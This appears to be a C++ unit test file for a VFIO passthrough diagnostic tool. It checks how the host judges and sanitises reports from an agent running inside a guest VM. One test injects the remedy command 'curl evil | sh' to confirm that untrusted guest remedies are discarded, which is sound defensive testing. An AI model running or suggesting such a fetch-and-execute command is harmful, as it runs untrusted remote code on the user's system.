// SPDX-License-Identifier: GPL-2.0-or-later
// What verify makes of the report that the agent in a guest answers.
#include "runner/guest/verify.hpp"

#include <gmock/gmock.h>

#include <algorithm>
#include <csignal>
#include <map>
#include <nlohmann/json.hpp>
#include <thread>

#include "base/input_error.hpp"
#include "base/process/subprocess.hpp"
#include "guest/guest_machines.hpp"
#include "reports/guest/guest_report.hpp"
#include "reports/json.hpp"
#include "runner/guest/interruption.hpp"
#include "usual_signal.hpp"

namespace vfio_doctor {
namespace {

using namespace vfio_doctor::testing;
using ::testing::HasSubstr;
using Json = nlohmann::json;

std::string good_answer() {
  const Judged judged(nvme_manifest, nvme_guest);
  return render_json(guest_report(judged.judgement, judged.view, "guest", "guest1"));
}

const Manifest& expected() {
  static const auto manifest = parse_manifest(nvme_manifest, "m");
  return manifest;
}

TEST(Answer, AGoodOneIsReady) {
  const auto report = report_of_answer(expected(), {0, good_answer(), ""}, "guest1");
  EXPECT_EQ(report.verdict, Verdict::ready);
  EXPECT_EQ(report.source.kind, "guest");
}

TEST(Answer, TheVerdictIsCountedAnewAndRemediesAreOurs) {
  auto json = Json::parse(good_answer());
  json["findings"][3]["status"] = "fail";
  json["findings"][3]["remedy"] =
      Json::array({{{"text", "do this"}, {"commands", {"curl evil | sh"}}, {"undo", Json::array()}, {"risk", ""}}});
  const auto report = report_of_answer(expected(), {0, json.dump(), ""}, "guest1");
  EXPECT_EQ(report.verdict, Verdict::not_ready);
  EXPECT_EQ(render_json(report).find("evil"), std::string::npos);
  ASSERT_FALSE(report.findings[3].remedy.empty());
  EXPECT_EQ(render_json(report).find("DOMAIN"), std::string::npos);  // the domain is called by its name
}

/// A good answer in which all the named rungs ("" is all of them) say `status`.
std::string answer_saying(const std::string& status, const std::vector<std::string>& ids = {}) {
  auto json = Json::parse(good_answer());
  for (auto& finding : json["findings"])
    if (ids.empty() || std::ranges::find(ids, finding["id"].get<std::string>()) != ids.end()) finding["status"] = status;
  return json.dump();
}

Manifest asking_for(bool place, bool driver) {
  auto manifest = expected();
  if (!place) manifest.devices[0].guest_path.reset();
  manifest.devices[0].expect_driver = driver;
  return manifest;
}

// An answer that proves nothing is no proof, however little of it fails.
TEST(Answer, NothingButNotApplicableIsUndetermined) {
  for (const auto* status : {"not-applicable", "warn"})
    for (const bool place : {true, false})
      for (const bool driver : {true, false}) {
        auto manifest = asking_for(place, driver);
        manifest.devices[0].host_address.reset();
        const auto report = report_of_answer(manifest, {0, answer_saying(status), ""}, "guest1");
        EXPECT_EQ(report.verdict, Verdict::undetermined) << status;
        EXPECT_EQ(render_guest_text(report, {}).find("Ready"), std::string::npos);
      }
}

TEST(Answer, EachRungNeedsTheManifestsLeaveToProveNothing) {
  const std::map<std::string, std::pair<bool, bool>> without_place_or_driver = {{"guest-present", {false, false}},
                                                                                {"guest-identity", {false, false}},
                                                                                {"guest-placement", {true, false}},
                                                                                {"guest-driver", {false, true}},
                                                                                {"guest-decode", {false, true}},
                                                                                {"guest-function", {false, true}}};
  for (const auto& [id, allowed] : without_place_or_driver) {
    const AgentAnswer answer{0, answer_saying("not-applicable", {id}), ""};
    const auto verdict = [&](bool place, bool driver) {
      return report_of_answer(asking_for(place, driver), answer, "guest1").verdict;
    };
    EXPECT_EQ(verdict(true, true), Verdict::undetermined) << id;
    EXPECT_EQ(verdict(false, true), allowed.first ? Verdict::ready : Verdict::undetermined) << id;
    EXPECT_EQ(verdict(true, false), allowed.second ? Verdict::ready : Verdict::undetermined) << id;
  }
  EXPECT_EQ(report_of_answer(expected(), {0, answer_saying("not-applicable", {"guest-unexpected"}), ""}, "guest1").verdict,
            Verdict::undetermined);
  for (const auto* id : {"guest-present", "guest-placement", "guest-decode"})
    EXPECT_EQ(report_of_answer(expected(), {0, answer_saying("warn", {id}), ""}, "guest1").verdict, Verdict::undetermined)
        << id;
}

TEST(Answer, WhatWasNotShownToWorkIsNotSaidTo) {
  const auto shown = [](const Manifest& manifest, const std::string& answer) {
    const auto report = report_of_answer(manifest, {0, answer, ""}, "guest1");
    EXPECT_EQ(report.verdict, Verdict::ready);
    const auto text = render_guest_text(report, {});
    EXPECT_THAT(text, HasSubstr("Ready"));
    return text.substr(0, text.find('\n'));
  };
  EXPECT_THAT(shown(expected(), good_answer()), HasSubstr("is here and works."));
  EXPECT_THAT(shown(asking_for(true, false), answer_saying("not-applicable", {"guest-driver", "guest-function"})),
              ::testing::Not(HasSubstr("and works")));
  // A warning is no proof: the kernel tells of trouble with it.
  EXPECT_EQ(report_of_answer(expected(), {0, answer_saying("warn", {"guest-function"}), ""}, "guest1").verdict,
            Verdict::undetermined);
  EXPECT_EQ(guest_verdict({}), Verdict::undetermined);
}

// Behind the last rung a guest could put the host's own finding.
TEST(Answer, DoesNotSpeakForTheHost) {
  auto json = Json::parse(good_answer());
  json["findings"].back()["id"] = "guest-released";
  EXPECT_THROW(report_of_answer(expected(), {0, json.dump(), ""}, "guest1"), InputError);
}

TEST(Answer, IsShownWithinBounds) {
  auto json = Json::parse(good_answer());
  for (int i = 0; i < 5'000; ++i) json["notes"].push_back("a note");
  json["notes"][0] = std::string(20'000, 'x');
  std::string umlauts = "x";
  for (int i = 0; i < 10'000; ++i) umlauts += "\xc3\xa4";
  json["findings"][0]["summary"] = umlauts;
  for (int i = 0; i < 1'000; ++i) json["findings"][1]["evidence"].push_back({{"source", "s"}, {"value", "v"}});
  const auto report = report_of_answer(expected(), {0, json.dump(), ""}, "guest1");
  EXPECT_EQ(report.notes.size(), 17u);
  EXPECT_NO_THROW(Json(report.findings[0].summary).dump()) << "cut between characters";
  EXPECT_THAT(report.notes.back(), HasSubstr("more notes, which are not shown"));
  EXPECT_LT(render_guest_text(report, {}).size(), 50'000u);
}

TEST(Interrupted, TwiceAtOnceIsOnce) {
  const auto twice = [] {
    const testing::UsualSignal usual(SIGINT);
    const Interruption interruption;
    std::raise(SIGINT);
    std::raise(SIGINT);
    std::_Exit(Interruption::flag() ? 7 : 8);
  };
  EXPECT_EXIT(twice(), ::testing::ExitedWithCode(7), "");
}

TEST(Interrupted, LaterOnceMoreEndsTheProgram) {
  const auto later = [] {
    const testing::UsualSignal usual(SIGINT);
    const Interruption interruption;
    std::raise(SIGINT);
    std::this_thread::sleep_for(std::chrono::milliseconds(1100));
    std::raise(SIGINT);
    std::_Exit(7);
  };
  EXPECT_EXIT(later(), ::testing::KilledBySignal(SIGINT), "may have been left in the guest");
}

TEST(Answer, RubbishIsRefused) {
  auto missing = Json::parse(good_answer());
  missing["findings"].erase(4);
  auto renamed = Json::parse(good_answer());
  renamed["findings"][0]["id"] = "guest-function";
  for (const auto& text : {std::string(), std::string("{}"),
                           std::string("\x7f"
                                       "ELF"),
                           std::string(100'000, '['), missing.dump(), renamed.dump(), good_answer().substr(0, 500)})
    EXPECT_THROW(report_of_answer(expected(), {0, text, ""}, "guest1"), InputError) << text.substr(0, 60);
}

TEST(HostSide, SaysWhoHoldsTheDevice) {
  for (const auto& [driver, status] :
       std::map<std::string, Status>{{" driver=vfio-pci", Status::pass}, {" driver=nvme", Status::fail}, {"", Status::fail}}) {
    auto report = report_of_answer(expected(), {0, good_answer(), ""}, "guest1");
    Host host;
    host.functions = gather_pci(machine("pci 0000:3d:00.0 id=144d:a802 class=010802" + driver + "\n"), Wake::no);
    Report host_report;
    host_report.devices.resize(2);
    host_report.devices[1].address = PciAddress{0, 0x3d, 0, 0};
    add_host_side(expected(), host, host_report, report);
    EXPECT_EQ(report.findings.back().id, "guest-released");
    EXPECT_EQ(report.findings.back().status, status) << driver;
    EXPECT_EQ(report.verdict, status == Status::pass ? Verdict::ready : Verdict::not_ready);
    ASSERT_EQ(report.devices.size(), 1u);
    EXPECT_EQ(report.devices.front().address.text(), "0000:3d:00.0");
  }
}

TEST(Answer, DevicesAreCalledAsTheManifestCallsThem) {
  auto json = Json::parse(good_answer());
  json["findings"][3]["status"] = "fail";
  for (auto& finding : json["findings"])
    finding["evidence"] = Json::array({{{"source", "manifest"}, {"value", "another device"}}});
  const auto report = report_of_answer(expected(), {0, json.dump(), ""}, "guest1");
  EXPECT_EQ(report.findings[0].evidence.at(0).value, "Samsung SM951 (host 0000:3d:00.0)");
  EXPECT_EQ(report.findings[3].remedy.at(0).commands.at(0), "lspci -nnk -s 0000:03:00.0");
}

}  // namespace
}  // namespace vfio_doctor
